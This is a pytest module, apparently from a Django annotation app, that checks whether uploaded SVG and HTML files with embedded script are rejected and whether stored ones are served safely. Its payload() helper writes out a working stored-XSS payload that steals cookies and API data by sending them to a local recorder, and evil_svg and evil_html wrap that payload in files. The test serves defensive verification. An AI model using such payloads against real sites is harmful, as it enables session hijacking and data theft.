"""Stored XSS through an uploaded SVG (or any active document passing as an image).

1. A manager uploads an SVG with a <script> (named .svg, and named .png), and an HTML page named
   .jpg, through the API of a live server whose imports run on a real Celery worker: each fails
   with its reason, nothing of it is stored or served; a real photo next to them is imported.
2. Legacy data: active files already stored as an asset's original (an .svg, an .html, an .xml,
   and an HTML page stored under a .png name). An admin opens each at its
   /api/assets/<id>/files/original URL in Chromium, signed in: no script runs (the scripts would
   set the title, call the API with the admin's cookies and send what they read to a server this
   test runs on 127.0.0.1). Active types are downloads (attachment, octet-stream); every file
   response has nosniff and the sandbox CSP.
3. The policy costs nothing to the app: originals and display videos still load as <img> and
   <video> in the app's pages, and open in a tab.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from django.conf import settings

from annotator.models import Asset, Membership, Project, asset_media_dir
from tests import factories as f
from tests.e2e.fixtures import login, make_user
from tests.factories import builtin
from tests.security import live_media
from tests.security.live_media import Api, files_under

real_worker, recorder = live_media.real_worker, live_media.recorder  # the fixtures this module uses

pytestmark = pytest.mark.django_db(transaction=True)

SVG_REASON = "SVG images are not accepted: an SVG can carry script; convert it to PNG first"
SAMPLES = Path(__file__).resolve().parents[2] / "annotator" / "demo" / "samples"


def payload(recorder_url: str) -> str:
    """What an attacker's script does with the victim's session: mark the page, read the API with
    the victim's cookies, and send it away."""
    return (
        "document.title = 'pwned';"
        f"new Image().src = '{recorder_url}/ran?' + encodeURIComponent(document.cookie);"
        "fetch('/api/projects/', {credentials: 'include'}).then(r => r.text())"
        f".then(t => fetch('{recorder_url}/stolen', {{method: 'POST', mode: 'no-cors', body: t}}));"
    )


def evil_svg(recorder_url: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" onload="document.title=\'onload\'">'
        f'<rect width="64" height="48" fill="red"/><script>{payload(recorder_url)}</script></svg>'
    ).encode()


def evil_html(recorder_url: str) -> bytes:
    return f"<!doctype html><html><body><h1>hello</h1><script>{payload(recorder_url)}</script></body></html>".encode()


def test_svg_and_markup_uploads_fail_and_nothing_is_served(live_server, real_worker, recorder):
    manager = f.user("manager")
    project = f.project(media_type="image", members={manager: Membership.Role.MANAGER})
    api = Api(live_server.url, manager)
    job = api.import_files(
        project,
        [
            ("drawing.svg", evil_svg(recorder.url)),
            ("looks-like-a.png", evil_svg(recorder.url)),
            ("page.jpg", evil_html(recorder.url)),
            ("photo.jpg", (SAMPLES / "test1.jpg").read_bytes()),
        ],
    )
    assert job["state"] == "succeeded", job
    by_name = {a["original_name"]: a for a in api.assets(project)}
    assert {name: (a["status"], a["failure_reason"]) for name, a in by_name.items()} == {
        "drawing.svg": ("failed", SVG_REASON),
        "looks-like-a.png": ("failed", SVG_REASON),
        "page.jpg": ("failed", "the file is an HTML document, not an image or a video"),
        "photo.jpg": ("ready", ""),
    }
    for name in ("drawing.svg", "looks-like-a.png", "page.jpg"):
        asset = by_name[name]
        assert asset["urls"] == {"frames": []}
        for file in ("original", "display", "thumbnail"):
            assert api.get(f"/api/assets/{asset['id']}/files/{file}").status_code == 404
    stored = files_under(Path(settings.MEDIA_ROOT) / "projects" / str(project.pk))
    assert stored and all(b"<script" not in data and b"<svg" not in data for data in stored.values())
    assert {Path(rel).parts[1] for rel in stored} == {str(by_name["photo.jpg"]["id"])}
    photo = api.get(by_name["photo.jpg"]["urls"]["original"])
    assert photo.status_code == 200 and photo.headers["Content-Type"] == "image/jpeg"
    assert recorder.requests == []


def _legacy_asset(project: Project, name: str, content: bytes) -> Asset:
    """An asset whose original was stored before the import refused active files."""
    asset = Asset.objects.create(project=project, kind="image", status="ready", original_name=name)
    folder = asset_media_dir(project.pk, asset.pk)
    root = Path(settings.MEDIA_ROOT) / folder
    root.mkdir(parents=True)
    (root / f"original{Path(name).suffix}").write_bytes(content)
    asset.files = {"original": f"{folder}/original{Path(name).suffix}", "frames": []}
    asset.save(update_fields=["files"])
    return asset


def _violations_and_errors(page) -> list[str]:
    found: list[str] = []
    page.on(
        "console",
        lambda m: found.append(m.text) if ("Content Security Policy" in m.text or "Refused to" in m.text) else None,
    )
    page.on("pageerror", lambda exc: found.append(f"page error: {exc}"))
    return found


def test_stored_active_files_never_run_script_for_an_admin(live_server, browser, recorder):
    from playwright.sync_api import Error as PlaywrightError

    admin = make_user("admin", staff=True)
    project = Project.objects.create(name="legacy", media_type="image", checklist_version=builtin("image"))
    Membership.objects.create(project=project, user=admin, role=Membership.Role.MANAGER)
    downloads = {
        "drawing.svg": _legacy_asset(project, "drawing.svg", evil_svg(recorder.url)),
        "page.html": _legacy_asset(project, "page.html", evil_html(recorder.url)),
        "feed.xml": _legacy_asset(project, "feed.xml", evil_svg(recorder.url)),
    }
    mislabelled = _legacy_asset(project, "picture.png", evil_html(recorder.url))

    # over HTTP: active types are downloads; every response has nosniff and the sandbox policy
    api = Api(live_server.url, admin)
    for name, asset in downloads.items():
        response = api.get(f"/api/assets/{asset.pk}/files/original")
        assert response.status_code == 200
        assert response.headers["Content-Type"] == "application/octet-stream", name
        assert response.headers["Content-Disposition"].startswith("attachment;"), name
        assert name in response.headers["Content-Disposition"]
    for asset in [*downloads.values(), mislabelled]:
        for extra in ({}, {"Range": "bytes=0-9"}):
            response = api.get(f"/api/assets/{asset.pk}/files/original", headers=extra)
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            policy = response.headers["Content-Security-Policy"]
            assert policy.startswith("sandbox;") and "default-src 'none'" in policy and "script-src" not in policy
    inline = api.get(f"/api/assets/{mislabelled.pk}/files/original")
    assert inline.headers["Content-Type"] == "image/png" and "attachment" not in inline.headers.get(
        "Content-Disposition", ""
    )

    # in Chromium, signed in as the admin
    context = browser.new_context(base_url=live_server.url, accept_downloads=True)
    try:
        page = context.new_page()
        problems = _violations_and_errors(page)
        login(page, "admin")
        for name, asset in downloads.items():
            url = f"/api/assets/{asset.pk}/files/original"
            with page.expect_download() as download_info:
                try:
                    page.goto(url)
                except PlaywrightError:  # "Download is starting": the navigation became a download
                    pass
            download = download_info.value
            assert download.suggested_filename == name
            assert page.title() != "pwned"
        # the mislabelled page is shown as a (broken) image: never parsed as HTML, never run
        page.goto(f"/api/assets/{mislabelled.pk}/files/original")
        page.wait_for_timeout(1000)
        assert page.title() not in ("pwned", "onload")
        assert page.evaluate("document.querySelectorAll('script, h1').length") == 0
        # a page of the app framing or embedding the SVG: as an image it cannot script either
        page.goto("/projects")
        page.get_by_role("heading", name="Your projects").wait_for()
        svg_url = f"/api/assets/{downloads['drawing.svg'].pk}/files/original"
        page.evaluate(
            "url => new Promise(done => { const img = new Image(); img.onload = img.onerror = done;"
            " img.src = url; document.body.append(img); })",
            svg_url,
        )
        page.wait_for_timeout(1000)
        assert page.title() != "pwned"
    finally:
        context.close()
    assert recorder.requests == [], f"a stored file ran script: {recorder.requests}"
    assert problems == [], problems


def test_media_still_embeds_and_opens_under_the_policies(live_server, browser, add_asset):
    """The sandbox CSP governs only a document made from the file: <img>/<video> in the app's
    pages (under the app's own CSP) and opening a file in a tab still work."""
    viewer = make_user("viewer")
    project = Project.objects.create(name="media", media_type="image", checklist_version=builtin("image"))
    Membership.objects.create(project=project, user=viewer, role=Membership.Role.ANNOTATOR)
    photo = add_asset(project, "test1.jpg", "a photo")
    clip = add_asset(project, "test1.mp4", "a clip", task=False)
    context = browser.new_context(base_url=live_server.url)
    try:
        page = context.new_page()
        problems = _violations_and_errors(page)
        login(page, "viewer")
        loaded = page.evaluate(
            """async ([img, video]) => {
                const i = new Image(); i.src = img; document.body.append(i);
                await new Promise((ok, ko) => { i.onload = ok; i.onerror = ko; });
                const v = document.createElement('video'); v.muted = true; v.src = video; document.body.append(v);
                await new Promise((ok, ko) => { v.onloadeddata = ok; v.onerror = ko; });
                return [i.naturalWidth, v.videoWidth];
            }""",
            [f"/api/assets/{photo.pk}/files/original", f"/api/assets/{clip.pk}/files/display"],
        )
        assert loaded == [photo.width, clip.width]
        page.goto(f"/api/assets/{photo.pk}/files/original")  # opened in a tab: the image shows
        page.wait_for_function("() => document.images.length === 1 && document.images[0].naturalWidth > 0")
        page.goto(f"/api/assets/{clip.pk}/files/display")
        page.wait_for_function("() => { const v = document.querySelector('video'); return v && v.readyState >= 1; }")
    finally:
        context.close()
    assert problems == [], problems
